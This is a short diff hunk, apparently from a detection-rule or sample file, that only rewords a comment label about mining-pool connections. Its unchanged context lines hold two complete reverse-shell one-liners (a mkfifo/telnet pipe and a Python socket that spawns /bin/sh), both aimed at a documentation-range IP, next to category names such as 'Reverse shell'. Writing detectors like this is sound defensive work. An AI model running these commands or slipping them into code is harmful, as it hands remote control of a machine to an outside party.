@@ -10,7 +10,7 @@ sh -c 'mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | timeout 1 telnet 203.0.113.9 444
 python3 -c 'import socket,os; s=socket.socket(); s.connect(("203.0.113.9",4445)); os.dup2(s.fileno(),0); os.system("/bin/sh")'
 ## Shell with a connection, of a program that no package installed
 #also Command of a reverse shell
-#also Connection to a mining pool
+#also Connection to a port of mining pools
 #also Input and output tied to a connection with another machine
 #also Reverse shell
 #also Reverse shell by bash's own network
